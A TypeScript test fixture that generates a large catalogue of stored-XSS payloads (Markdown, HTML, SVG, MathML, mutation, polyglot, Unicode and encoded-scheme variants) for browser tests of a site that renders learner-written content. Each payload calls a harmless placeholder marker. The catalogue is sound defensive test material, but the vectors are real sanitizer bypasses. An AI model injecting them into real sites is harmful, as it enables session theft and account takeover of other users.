/**
 * Stored-XSS payloads for anything that renders what learners write (forum posts, titles,
 * descriptions). Every payload tries to run script that calls `__XSS__` with its own id, so a
 * browser test can define a global, swap the placeholder in with `markPayload` and learn exactly
 * which payload fired. Ids are numbered by position inside a family (hand-written payloads
 * first, then the generated encoded ones), so adding a payload renumbers those after it: compare
 * results by source, not by id, across versions of this file.
 */

export type XssFamily =
  | 'markdown-link'
  | 'raw-html'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'attribute-breakout'
  | 'polyglot'
  | 'unicode'
  | 'markdown-structure';

export type XssPayload = { readonly id: string; readonly family: XssFamily; readonly source: string };

export const XSS_PLACEHOLDER = '__XSS__';

export const XSS_FAMILIES: readonly XssFamily[] = [
  'markdown-link',
  'raw-html',
  'svg',
  'mathml',
  'mutation',
  'attribute-breakout',
  'polyglot',
  'unicode',
  'markdown-structure',
];

/** Written in the templates where the payload's own id goes. */
const ID = '{id}';

const MARKDOWN_LINK = [
  "[a](javascript:__XSS__('{id}'))",
  "[a](JAVASCRIPT:__XSS__('{id}'))",
  "[a](JaVaScRiPt:__XSS__('{id}'))",
  "[a](vbscript:__XSS__('{id}'))",
  "[a](VBScript:__XSS__('{id}'))",
  "[a](livescript:__XSS__('{id}'))",
  "[a](data:text/html,<script>__XSS__('{id}')</script>)",
  "[a](data:text/html;charset=utf-8,%3Cscript%3E__XSS__('{id}')%3C/script%3E)",
  "[a](data:text/javascript,__XSS__('{id}'))",
  "[a](DATA:text/html,<svg/onload=__XSS__('{id}')>)",
  "[a](<javascript:__XSS__('{id}')>)",
  "[a](<javascript: __XSS__('{id}')>)",
  "[a](   javascript:__XSS__('{id}')   )",
  '[a](javascript:__XSS__(\'{id}\') "title")',
  "[a](javascript\\:__XSS__('{id}'))",
  "[a](javascript://%0a__XSS__('{id}'))",
  "[a](javascript://x.test/%0d%0a__XSS__('{id}'))",
  "[a](javascript:void(0);__XSS__('{id}'))",
  "[a](javascript:__XSS__('{id}')//https://x.test)",
  "[a](java\tscript:__XSS__('{id}'))",
  "[a](java\nscript:__XSS__('{id}'))",
  "[a](\tjavascript:__XSS__('{id}'))",
  "[a][r]\n\n[r]: javascript:__XSS__('{id}')",
  '[r]\n\n[r]: <javascript:__XSS__(\'{id}\')> "t"',
  "[a][]\n\n[a]: vbscript:__XSS__('{id}')",
  "[A]\n\n[a]: JavaScript:__XSS__('{id}')",
  "[a]\n\n[a]:\n  javascript:__XSS__('{id}')\n  'title'",
  "<javascript:__XSS__('{id}')>",
  "<JAVASCRIPT:__XSS__('{id}')>",
  "<vbscript:__XSS__('{id}')>",
  "<data:text/html,%3Cscript%3E__XSS__('{id}')%3C/script%3E>",
  "![x](javascript:__XSS__('{id}'))",
  "![x](data:image/svg+xml,<svg/onload=__XSS__('{id}')>)",
  '![x](data:image/png,x"onerror="__XSS__(\'{id}\'))',
  "![x][r]\n\n[r]: javascript:__XSS__('{id}')",
  "[![x](https://img.x.test/a.png)](javascript:__XSS__('{id}'))",
  "[a](https://x.test)[b](javascript:__XSS__('{id}'))",
];

const RAW_HTML = [
  "<script>__XSS__('{id}')</script>",
  "<SCRIPT SRC=data:text/javascript,__XSS__('{id}')></SCRIPT>",
  '<img src=x onerror="__XSS__(\'{id}\')">',
  "<img src=x onerror=__XSS__('{id}')//",
  "<img/src/onerror=__XSS__('{id}')>",
  "<IMG SRC=JaVaScRiPt:__XSS__('{id}')>",
  '<body onload="__XSS__(\'{id}\')">',
  "<body/onpageshow=__XSS__('{id}')>",
  '<iframe srcdoc="<script>parent.__XSS__(\'{id}\')</script>"></iframe>',
  '<iframe src="javascript:__XSS__(\'{id}\')"></iframe>',
  '<object data="javascript:__XSS__(\'{id}\')"></object>',
  '<object data="data:text/html,<script>parent.__XSS__(\'{id}\')</script>"></object>',
  '<embed src="data:text/html,<script>parent.__XSS__(\'{id}\')</script>">',
  '<form action="javascript:__XSS__(\'{id}\')"><button>go</button></form>',
  '<form><button formaction="javascript:__XSS__(\'{id}\')">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:__XSS__(\'{id}\')">',
  '<base href="javascript:__XSS__(\'{id}\')//"><a href="x">go</a>',
  '<link rel="import" href="data:text/html,<script>parent.__XSS__(\'{id}\')</script>">',
  '<style>@import "javascript:__XSS__(\'{id}\')";</style>',
  '<div style="width: expression(__XSS__(\'{id}\'))">x</div>',
  '<div style="background:url(javascript:__XSS__(\'{id}\'))">x</div>',
  '<details open ontoggle="__XSS__(\'{id}\')">',
  '<marquee onstart="__XSS__(\'{id}\')">x</marquee>',
  '<video src=x onerror="__XSS__(\'{id}\')"></video>',
  '<audio src=x onerror="__XSS__(\'{id}\')"></audio>',
  '<video><source onerror="__XSS__(\'{id}\')"></video>',
  '<input autofocus onfocus="__XSS__(\'{id}\')">',
  '<select autofocus onfocus="__XSS__(\'{id}\')"></select>',
  '<textarea autofocus onfocus="__XSS__(\'{id}\')"></textarea>',
  '<template><img src=x onerror="__XSS__(\'{id}\')"></template>',
  '<noscript><img src=x onerror="__XSS__(\'{id}\')"></noscript>',
  '<a href="javascript:__XSS__(\'{id}\')">x</a>',
  '<b onmouseover="__XSS__(\'{id}\')">hover</b>',
  '<isindex type=image src=1 onerror="__XSS__(\'{id}\')">',
  '<img """><script>__XSS__(\'{id}\')</script>">',
  '<a id=x tabindex=1 onfocus="__XSS__(\'{id}\')" autofocus>x</a>',
];

const SVG = [
  '<svg onload="__XSS__(\'{id}\')">',
  "<svg/onload=__XSS__('{id}')>",
  "<svg><script>__XSS__('{id}')</script></svg>",
  '<svg><script href="data:text/javascript,__XSS__(\'{id}\')"/></svg>',
  '<svg><script xlink:href="data:,__XSS__(\'{id}\')"></script></svg>',
  '<svg><a><animate attributeName="href" values="javascript:__XSS__(\'{id}\')"/><text x="20" y="20">x</text></a></svg>',
  '<svg><a><set attributeName="href" to="javascript:__XSS__(\'{id}\')"/><text y="20">x</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="javascript:__XSS__(\'{id}\')"/><text y="20">x</text></a></svg>',
  '<svg><animate onbegin="__XSS__(\'{id}\')" attributeName="x" dur="1s"/></svg>',
  '<svg><discard onbegin="__XSS__(\'{id}\')"/></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__XSS__(`{id}`)'/></svg>#x\"/></svg>",
  '<svg><foreignObject><iframe srcdoc="<script>parent.__XSS__(\'{id}\')</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><img src=x onerror="__XSS__(\'{id}\')"></foreignObject></svg>',
  '<svg><image href="x" onerror="__XSS__(\'{id}\')"/></svg>',
  '<svg><a xlink:href="javascript:__XSS__(\'{id}\')"><text x="20" y="20">x</text></a></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">__XSS__(\'{id}\')</handler></svg>',
  '<svg><style><img src=x onerror="__XSS__(\'{id}\')"></style></svg>',
  '<svg><title><img src=x onerror="__XSS__(\'{id}\')"></title></svg>',
  '<svg><desc><img src=x onerror="__XSS__(\'{id}\')"></desc></svg>',
  "![x](data:image/svg+xml;charset=utf-8,<svg/onload=__XSS__('{id}')>)",
  "[a](data:image/svg+xml,<svg/onload=__XSS__('{id}')>)",
];

const MATHML = [
  '<math><maction actiontype="statusline" xlink:href="javascript:__XSS__(\'{id}\')">x</maction></math>',
  '<math href="javascript:__XSS__(\'{id}\')">x</math>',
  '<math><mi xlink:href="javascript:__XSS__(\'{id}\')">x</mi></math>',
  '<math><mrow xlink:type="simple" xlink:href="javascript:__XSS__(\'{id}\')">x</mrow></math>',
  '<math><a xlink:href="javascript:__XSS__(\'{id}\')">x</a></math>',
  '<math><mglyph src="javascript:__XSS__(\'{id}\')"></mglyph></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror="__XSS__(\'{id}\')">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=__XSS__(\'{id}\')&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'__XSS__(`{id}`)\'>"></style></h1>',
  '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=__XSS__(\'{id}\')>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="__XSS__(\'{id}\')"></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror="__XSS__(\'{id}\')"></style></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="text/html"><svg onload="__XSS__(\'{id}\')"></annotation-xml></semantics></math>',
  '<math><mtext><img src=x onerror="__XSS__(\'{id}\')"></mtext></math>',
  '<math><style><img src=x onerror="__XSS__(\'{id}\')"></style></math>',
  "<math><mi><script>__XSS__('{id}')</script></mi></math>",
  '<math><mtext><select><mglyph><style><img src=x onerror="__XSS__(\'{id}\')">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=__XSS__(\'{id}\')>">',
];

const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=__XSS__(\'{id}\')>">',
  '<title><a title="</title><img src=x onerror=__XSS__(\'{id}\')>">',
  '<textarea><a title="</textarea><img src=x onerror=__XSS__(\'{id}\')>">',
  '<style><a title="</style><img src=x onerror=__XSS__(\'{id}\')>">',
  '<svg></p><style><a id="</style><img src=1 onerror=__XSS__(\'{id}\')>">',
  '<svg><p><style><g title="</style><img src=x onerror=__XSS__(\'{id}\')>">',
  "<!--><img src=x onerror=__XSS__('{id}')>-->",
  "<!--!><img src=x onerror=__XSS__('{id}')>-->",
  "<!-- --!><img src=x onerror=__XSS__('{id}')> -->",
  "<svg><style><!--</style><img src=x onerror=__XSS__('{id}')>-->",
  "<svg><![CDATA[><img src=x onerror=__XSS__('{id}')>]]></svg>",
  "<![CDATA[><img src=x onerror=__XSS__('{id}')>]]>",
  "<?xml ><img src=x onerror=__XSS__('{id}')>?>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__XSS__('{id}')>",
  "<form id=a><form><input name=x></form><img src=x onerror=__XSS__('{id}')>",
  '<xmp><p title="</xmp><img src=x onerror=__XSS__(\'{id}\')>">',
  '<iframe><p title="</iframe><img src=x onerror=__XSS__(\'{id}\')>">',
  '<noembed><p title="</noembed><img src=x onerror=__XSS__(\'{id}\')>">',
  '<noframes><p title="</noframes><img src=x onerror=__XSS__(\'{id}\')>">',
  '<table><svg><style><a title="</style><img src=x onerror=__XSS__(\'{id}\')>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=__XSS__(\'{id}\')>">',
  "</script><img src=x onerror=__XSS__('{id}')>",
  '<a href="</a><img src=x onerror=__XSS__(\'{id}\')>">x</a>',
];

const ATTRIBUTE_BREAKOUT = [
  '[a](https://x.test/" onmouseover="__XSS__(\'{id}\'))',
  '[a](https://x.test/"onmouseover="__XSS__(\'{id}\'))',
  '![a" onerror="__XSS__(\'{id}\')](https://x.test/a.png)',
  '[a](<https://x.test" autofocus onfocus="__XSS__(\'{id}\')>)',
  '[a](https://x.test "t\\" onmouseover=\\"__XSS__(\'{id}\')")',
  '[a](https://x.test \'t" onmouseover="__XSS__(`{id}`)\')',
  '[a](https://x.test (t" onmouseover="__XSS__\\(\'{id}\'\\)"))',
  '![a](https://x.test/a.png "t\\" onerror=\\"__XSS__(\'{id}\')")',
  "![a' onerror='__XSS__(`{id}`)](https://x.test/a.png)",
  "![a` onerror=`__XSS__('{id}')](https://x.test/a.png)",
  "[a](https://x.test/`onmouseover=__XSS__('{id}'))",
  "[a](https://x.test/&quot;onmouseover=&quot;__XSS__('{id}'))",
  "[a](https://x.test/&#34;&#32;onmouseover=&#34;__XSS__('{id}'))",
  '[a](https://x.test "&quot; onmouseover=&quot;__XSS__(\'{id}\')")',
  "![&quot; onerror=&quot;__XSS__('{id}')](https://x.test/a.png)",
  "[a](https://x.test/%22%20onmouseover=%22__XSS__('{id}'))",
  'https://x.test/"onmouseover="__XSS__(\'{id}\')"',
  '<https://x.test/"onmouseover="__XSS__(\'{id}\')">',
  "[a](https://x.test/><img src=x onerror=__XSS__('{id}')>)",
  '[a]\n\n[a]: https://x.test/"onmouseover="__XSS__(\'{id}\')"',
  '[a]\n\n[a]: https://x.test "t\\" onmouseover=\\"__XSS__(\'{id}\')"',
  '![a](https://x.test/a.png"onerror="__XSS__(\'{id}\'))',
  '![a](/media/a.png"onerror="__XSS__(\'{id}\'))',
  '[a](mailto:"onmouseover="__XSS__(\'{id}\')@x.test)',
  '```js"onmouseover="__XSS__(\'{id}\')\nx\n```',
  '```js" onmouseover="__XSS__(\'{id}\')\nx\n```',
];

const POLYGLOT = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__XSS__('{id}') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__XSS__('{id}')//>\\x3e",
  "[a](jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__XSS__('{id}') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__XSS__('{id}')//>\\x3e)",
  "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \\\" onmouseover=/*&lt;svg/*/onload=__XSS__('{id}')//>",
  'JavaScript://%250A__XSS__?.(/{id}/.source)//\'/*\\\'/*"/*\\"/*`/*\\`/*%26apos;)/*<!--></Title/</Style/</Script/</textArea/</iFrame/</noScript>\\74k<K/contentEditable/autoFocus/OnFocus=/*${/*/;{/**/(__XSS__)(/{id}/.source)}//><Base/Href=//X55.is\\76-->',
  '\';__XSS__(/{id}/.source)//\';__XSS__(/{id}/.source)//";__XSS__(/{id}/.source)//";__XSS__(/{id}/.source)//--></SCRIPT>">\'><SCRIPT>__XSS__(/{id}/.source)</SCRIPT>',
  '\'">><marquee><img src=x onerror=__XSS__(/{id}/.source)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=__XSS__(/{id}/.source)><script>__XSS__(/{id}/.source)</script>@x.test<isindex formaction=javascript:__XSS__(/{id}/.source) type=submit>\'-->"></script>',
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(__XSS__)(/{id}/.source)>',
  '"><svg/onload=__XSS__(/{id}/.source)>',
  '\'"--></style></script><script>__XSS__(/{id}/.source)</script>',
  '"\'><img src=x onerror=__XSS__(/{id}/.source)>',
  'javascript://\'/</title></style></textarea></script>--><p" onclick=__XSS__(/{id}/.source)//>*/__XSS__(/{id}/.source)/*',
  '\'"><iframe srcdoc="<svg onload=parent.__XSS__(/{id}/.source)>">',
  "[a](javascript:__XSS__('{id}'))<img src=x onerror=__XSS__('{id}')>![b](javascript:__XSS__('{id}'))",
  '`"\'><img src=x onerror=__XSS__(/{id}/.source)>`${__XSS__(/{id}/.source)}',
  '{{constructor.constructor(\'__XSS__("{id}")\')()}}',
  '"><svg><script>__XSS__(/{id}/.source)</script>',
  '" autofocus onfocus=__XSS__(/{id}/.source) x="',
  "%3Cscript%3E__XSS__('{id}')%3C/script%3E",
  "&lt;script&gt;__XSS__('{id}')&lt;/script&gt;",
  '\\"-__XSS__(/{id}/.source)-\\"</script><svg onload=__XSS__(/{id}/.source)>',
];

const UNICODE = [
  "[a](ｊａｖａｓｃｒｉｐｔ:__XSS__('{id}'))",
  "＜script＞__XSS__('{id}')＜/script＞",
  "＜img src=x onerror=__XSS__('{id}')＞",
  "[a](\u202Ejavascript:__XSS__('{id}'))",
  "[\u202Egnp.a](javascript:__XSS__('{id}'))",
  "[a](java\u200Dscript:__XSS__('{id}'))",
  "[a](java\u200Bscript:__XSS__('{id}'))",
  "[a](\uFEFFjavascript:__XSS__('{id}'))",
  "[a](java\u0000script:__XSS__('{id}'))",
  "[a](\u0000javascript:__XSS__('{id}'))",
  "<scr\u0000ipt>__XSS__('{id}')</scr\u0000ipt>",
  "<img src=x o\u0000nerror=__XSS__('{id}')>",
  '<a href="\u0000javascript:__XSS__(\'{id}\')">x</a>',
  "[a](\u0458avascript:__XSS__('{id}'))",
  "[a](j\u0430vascript:__XSS__('{id}'))",
  "[a](javascr\u0130pt:__XSS__('{id}'))",
  "<\u017Fcript>__XSS__('{id}')</\u017Fcript>",
  "[a](java\u017Fcript:__XSS__('{id}'))",
  "[a](javascript\uFF1A__XSS__('{id}'))",
  "[a](javascript\uFE55__XSS__('{id}'))",
  "[a](java\u00ADscript:__XSS__('{id}'))",
  "[a](\u00A0javascript:__XSS__('{id}'))",
  "[a](\u3000javascript:__XSS__('{id}'))",
  "[a](\u2028javascript:__XSS__('{id}'))",
  "[a](java&#x200D;script:__XSS__('{id}'))",
  "[a](&#xFF4A;avascript:__XSS__('{id}'))",
  "[a](j\u0301avascript:__XSS__('{id}'))",
  "[a](\uD835\uDC23\uD835\uDC1A\uD835\uDC2F\uD835\uDC1A\uD835\uDC2C\uD835\uDC1C\uD835\uDC2B\uD835\uDC22\uD835\uDC29\uD835\uDC2D:__XSS__('{id}'))",
  "\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:__XSS__('{id}')",
  "<svg onload\uFF1D__XSS__('{id}')>",
];

const MARKDOWN_STRUCTURE = [
  "```html\n<script>__XSS__('{id}')</script>\n```",
  "```\n</code></pre><img src=x onerror=__XSS__('{id}')>\n```",
  "```\"><img/src=x/onerror=__XSS__('{id}')>\nx\n```",
  "`</code><img src=x onerror=__XSS__('{id}')>`",
  "`` ` ``<img src=x onerror=__XSS__('{id}')>",
  "    <script>__XSS__('{id}')</script>",
  "| a | b |\n|---|---|\n| <img src=x onerror=__XSS__('{id}')> | [x](javascript:__XSS__('{id}')) |",
  '| <td style="background:url(javascript:__XSS__(\'{id}\'))"> |\n|:--|\n| x |',
  "| <script> |\n|---|\n| __XSS__('{id}') </script> |",
  "# <img src=x onerror=__XSS__('{id}')>",
  "<script>__XSS__('{id}')</script>\n===",
  "> <svg onload=__XSS__('{id}')>\n> > [x](javascript:__XSS__('{id}'))",
  "***<b onmouseover=__XSS__('{id}')>x</b>***",
  "<scr**ipt>__XSS__('{id}')</scr**ipt>",
  "~~<script>__XSS__('{id}')</script>~~",
  "javascript:__XSS__('{id}')",
  "www.x.test/<script>__XSS__('{id}')</script>",
  "https://x.test/<img src=x onerror=__XSS__('{id}')>",
  "http://x.test/?q=\"><script>__XSS__('{id}')</script>",
  'www.x.test/"onmouseover="__XSS__(\'{id}\')',
  "x.test@javascript:__XSS__('{id}')",
  "mailto:javascript:__XSS__('{id}')",
  "- [x](javascript:__XSS__('{id}'))\n- <img src=x onerror=__XSS__('{id}')>",
  "1. <script>__XSS__('{id}')</script>",
  "[<img src=x onerror=__XSS__('{id}')>](https://x.test)",
  "![<img src=x onerror=__XSS__('{id}')>](https://x.test/a.png)",
  "\\<script>__XSS__('{id}')\\</script>",
  "<div>\n\n[x](javascript:__XSS__('{id}'))\n\n</div>",
  "<!-- [x](javascript:__XSS__('{id}')) -->",
  "Hard  \nbreak<br onmouseover=__XSS__('{id}')>",
  "---\n<hr onmouseover=__XSS__('{id}')>",
  "[x]: javascript:__XSS__('{id}')\n\n- [x]",
  "* * *\n<style>*{background:url(javascript:__XSS__('{id}'))}</style>",
];

/**
 * `javascript:` (and friends) spelt the ways browsers and Markdown parsers decode differently.
 * Only the scheme is encoded: the call stays literal so `markPayload` can still swap it.
 */
const ENCODED_SCHEMES = [
  '&#106;avascript:',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;',
  '&#X6a;avascript&#X3a;',
  '&#0000106;&#0000097;vascript&#0000058;',
  '&#106avascript&#58',
  'j&#x61;v&#97;script&#x3a;',
  'javascript&colon;',
  'java&Tab;script:',
  'java&NewLine;script:',
  '&#x09;javascript:',
  '&#14;javascript:',
  'jav&#x0A;ascript:',
  'jav&#x0D;ascript:',
  '%6Aavascript:',
  'javascript%3A',
  'java%09script:',
  'vbscript&colon;',
  '&#118;bscript:',
  '&#100;ata:text/javascript,',
];

type Template = { readonly family: XssFamily; readonly text: string; readonly encoded: boolean };

function listTemplates(family: XssFamily, texts: readonly string[], encoded = false): Template[] {
  return texts.map((text) => ({ family, text, encoded }));
}

/** Where an encoded scheme goes: a Markdown link, a reference definition and a raw anchor. */
const ENCODED_CONTEXTS: readonly { family: XssFamily; wrap: (target: string) => string }[] = [
  { family: 'markdown-link', wrap: (target) => `[a](${target})` },
  { family: 'markdown-link', wrap: (target) => `[a]\n\n[a]: ${target}` },
  { family: 'raw-html', wrap: (target) => `<a href="${target}">a</a>` },
];

function listEncodedTemplates(): Template[] {
  return ENCODED_CONTEXTS.flatMap(({ family, wrap }) =>
    ENCODED_SCHEMES.map((scheme) => ({ family, text: wrap(`${scheme}__XSS__('${ID}')`), encoded: true })),
  );
}

function buildPayloads(): { payload: XssPayload; encoded: boolean }[] {
  const templates = [
    ...listTemplates('markdown-link', MARKDOWN_LINK),
    ...listTemplates('raw-html', RAW_HTML),
    ...listTemplates('svg', SVG),
    ...listTemplates('mathml', MATHML),
    ...listTemplates('mutation', MUTATION),
    ...listTemplates('attribute-breakout', ATTRIBUTE_BREAKOUT),
    ...listTemplates('polyglot', POLYGLOT),
    ...listTemplates('unicode', UNICODE),
    ...listTemplates('markdown-structure', MARKDOWN_STRUCTURE),
    ...listEncodedTemplates(),
  ];
  const counts = new Map<XssFamily, number>();
  return templates.map(({ family, text, encoded }) => {
    const number = (counts.get(family) ?? 0) + 1;
    counts.set(family, number);
    const id = `${family}-${number}`;
    return { payload: { id, family, source: text.replaceAll(ID, id) }, encoded };
  });
}

const BUILT = buildPayloads();

export const XSS_PAYLOADS: readonly XssPayload[] = BUILT.map(({ payload }) => payload);

/** The payloads whose scheme is entity- or percent-encoded (also part of `XSS_PAYLOADS`). */
export const encodedVariants: readonly XssPayload[] = BUILT.filter(({ encoded }) => encoded).map(
  ({ payload }) => payload,
);

const CALLABLE_NAME = /^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)*$/;

/**
 * The payload calling `marker` instead of the placeholder, e.g. `window.__xssHit`. Only dotted
 * identifiers are accepted: anything else could break the payload's syntax and hide a hit.
 */
export function markPayload(source: string, marker: string): string {
  if (!CALLABLE_NAME.test(marker)) throw new Error(`Not a callable name: ${marker}`);
  return source.replaceAll(XSS_PLACEHOLDER, marker);
}
